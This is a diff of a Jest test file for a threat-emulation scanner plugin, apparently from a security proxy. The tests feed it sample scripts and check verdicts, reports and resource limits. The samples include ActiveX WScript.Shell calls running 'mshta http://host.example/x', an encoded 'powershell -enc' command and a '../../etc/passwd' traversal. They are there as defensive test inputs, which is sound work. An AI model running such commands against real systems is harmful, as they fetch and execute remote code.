@@ -1,4 +1,4 @@
-import { describe, expect, test } from '@jest/globals';
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import type { Blade } from '../../../src/plugin/api.ts';
 import { block, allow } from '../../../src/plugin/api.ts';
 import type { BehaviourNode } from '../../../plugins/threat-emulation/report.ts';
@@ -6,7 +6,7 @@ import { ReportStore } from '../../../plugins/threat-emulation/report-store.ts';
 import { optionsSchema } from '../../../plugins/threat-emulation/options.ts';
 import { eicar } from '../../support/eicar.ts';
 import { tempDir } from '../../support/tempDir.ts';
-import { emulationBlade } from './blade-support.ts';
+import { emulationBlade, type TestEmulation } from './blade-support.ts';
 
 const JS = { 'content-type': 'text/javascript', 'content-disposition': 'attachment; filename="a.js"' };
 const code = (text: string): Buffer => Buffer.from(text);
@@ -20,9 +20,57 @@ function flatten(node: BehaviourNode, way: readonly string[] = []): { way: strin
   ];
 }
 
+const antivirusSaw: Buffer[] = [];
+const antivirus: Blade = {
+  name: 'antivirus',
+  inspect: (message) => {
+    antivirusSaw.push(Buffer.from(message.body!.memory!));
+    return message.body!.memory!.equals(eicar())
+      ? block({ threat: 'EICAR-Test-File', reason: 'found' })
+      : allow();
+  },
+};
+
+let te: TestEmulation; // as configured by default, but for a short time of scripts
+let small: TestEmulation; // without anti-virus, for small bodies, and careful
+
+beforeAll(async () => {
+  te = await emulationBlade({ script: { time: '300ms' } }, antivirus);
+  small = await emulationBlade({ maxSize: '1KiB', threshold: 20 });
+});
+
+afterAll(async () => {
+  await te[Symbol.asyncDispose]();
+  await small[Symbol.asyncDispose]();
+});
+
 describe('reports', () => {
+  test('are listed on the dashboard, with the behaviour of the newest', async () => {
+    expect(await te.panels['reports']!.data()).toMatchObject({ parts: [{ kind: 'text' }] });
+    await te.inspect(code('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/x")'), JS);
+    const { id } = await te.lastReport();
+    expect(await te.panels['reports']!.data()).toMatchObject({
+      parts: [
+        {
+          kind: 'table',
+          rows: [
+            [
+              expect.any(String),
+              'malicious',
+              expect.any(Number),
+              expect.any(String),
+              expect.any(String),
+              expect.any(String),
+              id,
+            ],
+          ],
+        },
+        { kind: 'text', text: expect.stringContaining('process: mshta http://host.example/x (') },
+      ],
+    });
+  });
+
   test('show a process under the layers of code that started it', async () => {
-    await using te = await emulationBlade();
     await te.inspect(
       code(
         `var s = new ActiveXObject("WScript.Shell"); (function () { var what = "calc.exe"; eval("eval('s.Run(what)')"); })();`,
@@ -37,7 +85,6 @@ describe('reports', () => {
   });
 
   test('decode what a command line hides', async () => {
-    await using te = await emulationBlade();
     const hidden = Buffer.from('Write-Output "decoded text of the command"', 'utf16le').toString('base64');
     await te.inspect(code(`new ActiveXObject("WScript.Shell").Run("powershell -enc ${hidden}")`), JS);
     const { tree } = await te.lastReport();
@@ -48,7 +95,6 @@ describe('reports', () => {
   });
 
   test('are bounded in number, the oldest go first, and survive a restart', async () => {
-    await using te = await emulationBlade();
     await using folder = await tempDir();
     await te.inspect(code('1'), JS);
     const one = await te.lastReport();
@@ -60,13 +106,6 @@ describe('reports', () => {
     expect(await again.read('te-000000000000')).toBeNull();
     expect(await again.read('../../etc/passwd')).toBeNull();
   });
-
-  test('are left out for clean content unless asked for', async () => {
-    await using folder = await tempDir();
-    await using te = await emulationBlade({ reports: { folder: folder.path } });
-    expect(await te.inspect(code('var a = 1;'), JS)).toEqual({ kind: 'allow' });
-    expect(await new ReportStore(folder.path, 10).latest(10)).toEqual([]);
-  });
 });
 
 describe('files that content makes', () => {
@@ -76,86 +115,71 @@ describe('files that content makes', () => {
     a.download = "notes.txt"; a.click();</script></html>`);
 
   test('go through anti-virus, which blocks by its own name for them', async () => {
-    const seen: Buffer[] = [];
-    const antivirus: Blade = {
-      name: 'antivirus',
-      inspect: (message) => {
-        seen.push(Buffer.from(message.body!.memory!));
-        return message.body!.memory!.equals(eicar())
-          ? block({ threat: 'EICAR-Test-File', reason: 'found' })
-          : allow();
-      },
-    };
-    await using te = await emulationBlade({}, antivirus);
     expect(await te.inspect(page, { 'content-type': 'text/html' })).toMatchObject({
       kind: 'block',
       threat: 'EICAR-Test-File',
     });
-    expect(seen).toEqual([eicar()]);
+    expect(antivirusSaw).toEqual([eicar()]);
     expect(await te.lastReport()).toMatchObject({
       drops: [{ name: 'notes.txt', size: 68, antivirus: 'EICAR-Test-File' }],
     });
   });
 
   test('are named in the report where no anti-virus is loaded', async () => {
-    await using te = await emulationBlade();
-    expect(await te.inspect(page, { 'content-type': 'text/html' })).toEqual({ kind: 'allow' });
-    expect(await te.lastReport()).toMatchObject({ drops: [{ name: 'notes.txt', antivirus: null }] });
+    expect(await small.inspect(page, { 'content-type': 'text/html' })).toEqual({ kind: 'allow' });
+    expect(await small.lastReport()).toMatchObject({ drops: [{ name: 'notes.txt', antivirus: null }] });
   });
 });
 
 describe('bounds', () => {
   test('an endless script is judged by what it did before, and is logged as not fully scanned', async () => {
-    await using te = await emulationBlade({ script: { time: '200ms' } });
     expect(await te.inspect(code('for (;;);'), JS)).toEqual({ kind: 'allow', notScanned: 'emulation limit' });
     const verdict = await te.inspect(
       code('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/x"); for (;;);'),
       JS,
     );
     expect(verdict).toMatchObject({ kind: 'block' });
-    expect(await te.lastReport()).toMatchObject({ limits: ['script stopped after 200 ms'] });
+    expect(await te.lastReport()).toMatchObject({ limits: ['script stopped after 300 ms'] });
   });
 
   test('a script is stopped at its memory and at its instructions', async () => {
-    await using te = await emulationBlade({ script: { time: '8s', memory: '4MiB', ticks: 40 } });
-    await te.inspect(code('var a = []; for (;;) a.push("x".repeat(100000) + a.length);'), JS);
+    await using te = await emulationBlade({ script: { time: '8s', memory: '4MiB', ticks: 3000 } });
+    await te.inspect(code('var all = {}; for (var i = 0; ; i++) all["k" + i] = i;'), JS);
     expect((await te.lastReport()).limits).toEqual(['script needed more than 4194304 bytes']);
     await te.inspect(code('for (;;);'), JS);
     expect((await te.lastReport()).limits).toEqual(['script ran too many instructions']);
   });
 
-  test('a job over its time costs its own message only', async () => {
-    await using te = await emulationBlade({ timeout: '400ms', script: { time: '20s', ticks: 10_000_000 } });
-    await te.inspect(code('1'), JS); // the thread runs
-    const stuck = te.inspect(code('for (;;);'), JS);
-    const next = te.inspect(code('var after = 1;'), JS);
-    await expect(stuck).rejects.toMatchObject({ code: 'ERR_SCAN_TIMEOUT' });
-    expect(await next).toEqual({ kind: 'allow' });
-  });
-
-  test('a client that is gone ends the run, and a full queue says so', async () => {
-    await using te = await emulationBlade({ maxQueue: 1, script: { time: '20s', ticks: 10_000_000 } });
-    await te.inspect(code('1'), JS);
+  test('a job over its time costs its own message only; a client that is gone ends it, a full queue says so', async () => {
+    await using folder = await tempDir();
+    const script = { time: '60s', ticks: 10_000_000 };
+    const reports = { folder: folder.path };
+    await using busy = await emulationBlade({ timeout: '1500ms', maxQueue: 1, script, reports });
     const gone = new AbortController();
-    const running = te.inspect(code('for (;;);'), JS, gone.signal);
-    const waiting = te.inspect(code('1'), JS);
-    await expect(te.inspect(code('1'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
+    await busy.inspect(code('1'), JS); // the thread runs
+    const running = busy.inspect(code('for (;;);'), JS, gone.signal);
+    const waiting = busy.inspect(code('1'), JS);
+    await expect(busy.inspect(code('1'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
     gone.abort();
     await expect(running).rejects.toMatchObject({ code: 'ERR_ABORTED' });
     expect(await waiting).toEqual({ kind: 'allow' });
+
+    const stuck = busy.inspect(code('for (;;);'), JS);
+    const next = busy.inspect(code('var after = 1;'), JS);
+    await expect(stuck).rejects.toMatchObject({ code: 'ERR_SCAN_TIMEOUT' });
+    expect(await next).toEqual({ kind: 'allow' });
+    expect(await new ReportStore(folder.path, 10).latest(10)).toEqual([]); // clean ones are kept only where asked for
   });
 
   test('a body over maxSize passes as not scanned; what only shows or sounds is not emulated', async () => {
-    await using te = await emulationBlade({ maxSize: '1KiB' });
-    expect(await te.inspect(Buffer.alloc(2000, 0x20), JS)).toEqual({ kind: 'allow', notScanned: 'size' });
-    expect(await te.inspect(Buffer.from('\x89PNG\r\n', 'latin1'), { 'content-type': 'image/png' })).toEqual({
-      kind: 'allow',
-    });
-    expect(await te.reports().latest(10)).toEqual([]);
+    const before = await small.reports().latest(10);
+    expect(await small.inspect(Buffer.alloc(2000, 0x20), JS)).toEqual({ kind: 'allow', notScanned: 'size' });
+    const png = Buffer.from('\x89PNG\r\n', 'latin1');
+    expect(await small.inspect(png, { 'content-type': 'image/png' })).toEqual({ kind: 'allow' });
+    expect(await small.reports().latest(10)).toEqual(before);
   });
 
   test('damaged documents and programs are allowed or blocked, and never an error', async () => {
-    await using te = await emulationBlade();
     const beginnings = [
       '%PDF-1.4\n1 0 obj << /JS (',
       'MZ',
@@ -187,12 +211,10 @@ describe('options', () => {
 
   test('a lower threshold blocks what a higher one lets pass', async () => {
     const text = code('new ActiveXObject("WScript.Shell").Run("notepad.exe")');
-    await using careful = await emulationBlade({ threshold: 20 });
-    await using normal = await emulationBlade();
-    expect(await careful.inspect(text, JS)).toMatchObject({
+    expect(await small.inspect(text, JS)).toMatchObject({
       kind: 'block',
-      threat: 'Behaviour.script.starts-process',
+      threat: 'Behaviour.javascript.starts-process',
     });
-    expect(await normal.inspect(text, JS)).toEqual({ kind: 'allow' });
+    expect(await te.inspect(text, JS)).toEqual({ kind: 'allow' });
   });
 });
